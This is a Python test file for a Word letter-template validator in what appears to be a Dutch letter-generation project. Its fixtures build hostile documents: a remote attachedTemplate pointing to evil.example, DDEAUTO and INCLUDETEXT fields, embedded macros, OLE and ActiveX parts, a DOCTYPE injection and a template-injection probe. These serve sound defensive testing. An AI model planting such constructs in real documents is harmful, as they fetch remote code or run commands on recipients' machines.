# SPDX-FileCopyrightText: 2026 Eén Lijn contributors
# SPDX-License-Identifier: EUPL-1.2
"""An own template keeps its header, footer and styles; whatever could act, fetch or hide is refused."""

import io
import zipfile
from dataclasses import replace

import pytest
from docx import Document

from eenlijn.foundation.pdf import letter_docx
from eenlijn.foundation.pdf.word_faults import TemplateFault, TemplateRefused
from eenlijn.foundation.pdf.word_template import check_template
from tests.foundation.pdf.test_letter import HOSTILE, LETTER


def template(*lines: str) -> bytes:
    """A letterhead with a header and a footer, and these lines."""
    document = Document()
    document.sections[0].header.paragraphs[0].text = "Briefhoofd van de werkgever"
    document.sections[0].footer.paragraphs[0].text = "Voettekst van de werkgever"
    for line in lines:
        document.add_paragraph(line)
    kept = io.BytesIO()
    document.save(kept)
    return kept.getvalue()


def changed(content: bytes, part: str, old: bytes, new: bytes) -> bytes:
    """The same file with other words in one part, or with a part more."""
    kept = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as packed, zipfile.ZipFile(kept, "w") as out:
        for one in packed.namelist():
            words = packed.read(one)
            out.writestr(one, words.replace(old, new) if one == part else words)
        if part not in packed.namelist():
            out.writestr(part, new)
    return kept.getvalue()


PLAIN = template("Ons eigen begin", "[brieftekst]", "Ons eigen slot")


def test_the_letter_stands_in_its_place_between_their_own_words() -> None:
    document = Document(io.BytesIO(letter_docx(LETTER, PLAIN)))
    told = [one.text for one in document.paragraphs]
    assert told[0] == "Ons eigen begin"
    assert told[-1] == "Ons eigen slot"
    assert "[brieftekst]" not in told
    assert told[1:5] == [
        "De heer Şahin\nDorpsstraat 2\n7601 BB Almelo",
        "Almelo, dinsdag 24 november 2026",
        "Kenmerk: 7K4M-2QX",
        "Wat er dinsdag gebeurde",
    ]
    assert HOSTILE in told
    assert document.sections[0].header.paragraphs[0].text == "Briefhoofd van de werkgever"
    assert document.sections[0].footer.paragraphs[0].text == "Voettekst van de werkgever"
    assert [
        one.style.name for one in document.paragraphs if one.style and "Heading" in str(one.style.name)
    ] == [
        "Heading 1",
        "Heading 2",
    ]


def test_places_of_their_own_are_filled_and_not_repeated() -> None:
    own = template("[aan]", "[datum]", "[kenmerk]", "[onderwerp]", "[brieftekst]")
    told = [one.text for one in Document(io.BytesIO(letter_docx(LETTER, own))).paragraphs]
    assert told[:4] == [
        "De heer Şahin\nDorpsstraat 2\n7601 BB Almelo",
        "Almelo, dinsdag 24 november 2026",
        "Kenmerk: 7K4M-2QX",
        "Wat er dinsdag gebeurde",
    ]
    assert [told.count(one) for one in told[:4]] == [1, 1, 1, 1]


def test_a_mark_that_was_typed_in_a_letter_is_text() -> None:
    letter = replace(LETTER, subject="[brieftekst]", reference="{{ 7*7 }}")
    told = [one.text for one in Document(io.BytesIO(letter_docx(letter, PLAIN))).paragraphs]
    assert "{{ 7*7 }}" in told
    assert told[0] == "Ons eigen begin"


DOCUMENT = "word/document.xml"
FIELD = b'<w:r><w:instrText>%s "http://x"</w:instrText></w:r></w:p>'


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (b"x" * 5_000_001, TemplateFault.TOO_LARGE),
        (b"", TemplateFault.NO_WORD_FILE),
        (b"%PDF-1.7", TemplateFault.NO_WORD_FILE),
        (b"PK\x03\x04 broken", TemplateFault.NO_WORD_FILE),
        (template("Geen plek"), TemplateFault.NO_PLACE),
        (template("zin met [brieftekst] erin"), TemplateFault.NO_PLACE),
        (template("[brieftekst]", "[brieftekst]"), TemplateFault.TWO_PLACES),
        (changed(PLAIN, "word/vbaProject.bin", b"", b"x"), TemplateFault.MACROS),
        (changed(PLAIN, "word/embeddings/oleObject1.bin", b"", b"x"), TemplateFault.MACROS),
        (changed(PLAIN, "word/activeX/activeX1.xml", b"", b"<x/>"), TemplateFault.MACROS),
        (
            changed(
                PLAIN,
                "[Content_Types].xml",
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
            TemplateFault.MACROS,
        ),
        (
            changed(
                PLAIN,
                "word/_rels/document.xml.rels",
                b"</Relationships>",
                b'<Relationship Id="r99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
                b"</Relationships>",
            ),
            TemplateFault.EXTERNAL,
        ),
        (changed(PLAIN, DOCUMENT, b"</w:p>", FIELD % b"INCLUDETEXT"), TemplateFault.FIELDS),
        (changed(PLAIN, DOCUMENT, b"</w:p>", FIELD % b"DDEAUTO"), TemplateFault.FIELDS),
        (changed(PLAIN, DOCUMENT, b"<w:document", b"<!DOCTYPE x><w:document"), TemplateFault.NO_WORD_FILE),
        (changed(PLAIN, DOCUMENT, b"<w:sectPr", b'<w:altChunk r:id="r1"/><w:sectPr'), TemplateFault.EXTERNAL),
        (changed(PLAIN, "word/media/x.bin", b"", b"\0" * 40_000_001), TemplateFault.TOO_LARGE),
    ],
    ids=lambda one: one.value if isinstance(one, TemplateFault) else "",
)
def test_what_is_no_plain_template_is_refused_by_name(content: bytes, fault: TemplateFault) -> None:
    with pytest.raises(TemplateRefused) as refused:
        check_template(content)
    assert refused.value.fault == fault
    with pytest.raises(TemplateRefused):
        letter_docx(LETTER, content or b" ")


def test_a_page_number_is_a_field_that_stays() -> None:
    check_template(changed(PLAIN, DOCUMENT, b"</w:p>", FIELD % b"PAGE"))
